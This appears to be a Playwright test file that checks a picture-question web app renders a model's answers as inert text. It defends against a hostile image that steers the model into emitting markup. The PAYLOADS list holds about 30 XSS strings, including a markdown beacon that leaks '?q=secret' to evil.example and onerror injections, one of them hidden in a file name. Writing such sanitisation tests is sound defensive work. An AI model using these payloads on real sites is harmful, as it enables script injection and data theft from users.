"""What a hostile picture may make a model say: the page shows it and does nothing."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from tests.browser.stub import answer_with, ask, box, stream, token
from tests.browser.watch import Watch
from tests.e2e.serving import Server

pytestmark = pytest.mark.browser

SAMPLE = Path(__file__).parents[2] / "examples" / "sample.png"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/a.png>",
    "![beacon](https://evil.example/b.png?q=secret)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<svg onload=alert(1)><circle r=9 /></svg>",
    "<svg><script href=https://evil.example/c.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/d.swf></object><embed src=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/f.css>",
    "<style>@import 'https://evil.example/g.css'; body{background:url(https://evil.example/h)}",
    "<div style='background:url(https://evil.example/i.png)'>x</div>",
    "<base href=https://evil.example/><a href=/j>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=k autofocus onfocus=alert(1)></form>",
    "<video src=https://evil.example/v.mp4 autoplay onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio><source src=https://evil.example/s>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)><input onfocus=alert(1) autofocus>",
    "<template><img src=x onerror=alert(1)></template><noscript><p title='</noscript><img src=x "
    "onerror=alert(1)>'></noscript>",
    "<a id=stage class=primary name=question href=https://evil.example ping=https://evil.example/p>"
    "x</a>",
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> <script>alert(1)</script> |",
    "<x-vl2 onclick=alert(1) is=x>x</x-vl2>\ue000<b\ue001 onmouseover=alert(1)>y</b>&#xE002;",
    "<button onclick=alert(1)>Ask</button><dialog open>Key<input type=password></dialog>",
    "<img srcset='https://evil.example/k 1x' loading=eager><picture><source "
    "srcset=https://evil.example/l></picture>",
]
ALLOWED = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "b", "i", "del", "s"),
    *("u", "sub", "sup", "code", "pre", "blockquote", "ul", "ol", "li", "a", "div", "span"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
}


@pytest.fixture
def page(watched: Callable[..., tuple[Page, Watch]], server: Server) -> Iterator[Page]:
    """The page without its content policy: what is shown must be harmless by itself."""
    opened, watch = watched(bypass_csp=True)
    opened.goto(server.url)
    opened.wait_for_selector(".model.ready")
    yield opened
    assert watch.foreign == []
    assert watch.dialogs == []
    assert watch.errors == []


def test_what_would_get_through_is_seen(watched: Callable[..., tuple[Page, Watch]], server: Server):
    page, watch = watched(bypass_csp=True)
    page.goto(server.url)
    page.evaluate("() => { document.querySelector('h1').innerHTML = '<img src=//evil.example/>' }")
    page.evaluate("() => fetch('https://evil.example/x').catch(() => alert(1))")
    assert sorted(watch.foreign) == ["http://evil.example/", "https://evil.example/x"]
    assert watch.dialogs == ["1"]


def told(page: Page) -> dict[str, list[str]]:
    """Tags, attributes and addresses that stand in the answers."""
    return page.evaluate(
        """
        () => {
          const all = [...document.querySelectorAll(".text *")];
          return {
            tags: all.map((e) => e.localName),
            names: all.flatMap((e) => e.getAttributeNames()),
            links: all.map((e) => e.getAttribute("href")).filter((href) => href !== null),
          };
        }
        """
    )


def check(page: Page) -> None:
    found = told(page)
    assert set(found["tags"]) <= ALLOWED, set(found["tags"]) - ALLOWED
    assert not [name for name in found["names"] if name.startswith("on")]
    assert not set(found["names"]) & {"style", "id", "src", "srcset", "ping", "name"}
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in found["links"])


def test_hostile_answers_are_inert(page: Page, tmp_path: Path):
    assert len(PAYLOADS) >= 30
    file = tmp_path / "<img src=x onerror=alert(1)>.png"
    file.write_bytes(SAMPLE.read_bytes())
    page.set_input_files("#files", file)
    bodies = []
    for text in PAYLOADS:
        places = (0, min(9, len(text)))
        boxes = [box(text, (5, 5, 50, 50), places), box(text, (9, 9, 60, 70), None)]
        tokens = [token(text[:12], -3.0, **{"<img src=x onerror=alert(1)>": -3.1})]
        bodies.append(stream({"content": text, "boxes": boxes}, logprobs=tokens))
    answer_with(page, *bodies)
    for text in PAYLOADS:
        ask(page, text)
        check(page)
    for word in page.locator(".unsure").all()[:5]:
        word.hover()
    # Answers must not take the place of the page's own parts.
    expect(page.locator("#stage")).to_have_count(1)
    expect(page.locator("#question")).to_have_count(1)
    assert page.url.count("/") == 3


def test_half_of_a_payload_is_inert_too(page: Page):
    text = " ".join(PAYLOADS[:6])
    answer_with(page, stream(*({"content": text[at : at + 3]} for at in range(0, len(text), 3))))
    page.set_input_files("#files", SAMPLE)
    ask(page, "What?")
    check(page)


def test_hostile_errors_are_text(page: Page):
    message = "<img src=x onerror=alert(1)><b>bold</b>"
    body = json.dumps({"error": {"message": message, "code": "x"}})
    answer_with(page, f"data: {body}\n\ndata: [DONE]\n\n")
    page.set_input_files("#files", SAMPLE)
    ask(page, "What?")
    expect(page.locator(".bad")).to_have_text(message)


def test_the_export_of_hostile_answers_is_inert(
    page: Page, watched: Callable[..., tuple[Page, Watch]], tmp_path: Path
):
    text = "\n\n".join(PAYLOADS)
    answer_with(page, stream({"content": text}))
    page.set_input_files("#files", SAMPLE)
    ask(page, "</style><script>alert(1)</script>")
    with page.expect_download() as download:
        page.click("#export")
    file = tmp_path / "out.html"
    download.value.save_as(file)
    alone, watch = watched(base_url="file://")
    alone.goto(file.as_uri())
    assert alone.locator("script, img, iframe, object, link, form, input").count() == 0
    assert alone.title() == "Answers about pictures"
    expect(alone.locator(".q")).to_have_text("</style><script>alert(1)</script>")
    assert watch.foreign == []
    assert watch.dialogs == []
